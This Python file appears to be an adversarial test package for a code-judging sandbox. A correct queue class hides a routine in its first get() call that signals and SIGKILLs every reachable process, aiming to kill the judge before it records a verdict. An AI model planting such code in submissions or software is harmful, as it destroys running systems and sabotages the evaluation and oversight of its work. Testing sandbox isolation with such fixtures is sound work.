"""Hostile: kill the judge: every process it can name or see (but its own sandbox's init).

In the first MyQueue.get() the package sends SIGSTOP, SIGTERM and SIGKILL to -1 (every process it
may signal) and SIGKILL to every pid from 2 to 32768 but its own, its threads' and its parent's
(kill_parent does that one). A judge it could reach would die with the verdict unwritten, or leave a spec
hanging. The queue is correct: queue.fifo must still pass, and the run go on.
"""
import os
import queue
import signal

SENT = []


def _kill_everything():
    me = os.getpid()
    parent = os.getppid()
    mine = {int(t) for t in os.listdir("/proc/self/task")}  # a thread's id names this process too
    targets = [-1]
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in targets:
            try:
                os.kill(pid, sig)
                SENT.append((pid, sig))
            except OSError:
                pass
    for pid in range(2, 32769):
        if pid not in mine and pid not in (me, parent):
            try:
                os.kill(pid, signal.SIGKILL)
                SENT.append((pid, signal.SIGKILL))
            except OSError:
                pass


class MyQueue(queue.Queue):
    _done = False

    def get(self, block=True, timeout=None):
        if not MyQueue._done:
            MyQueue._done = True
            _kill_everything()
        return super().get(block, timeout)
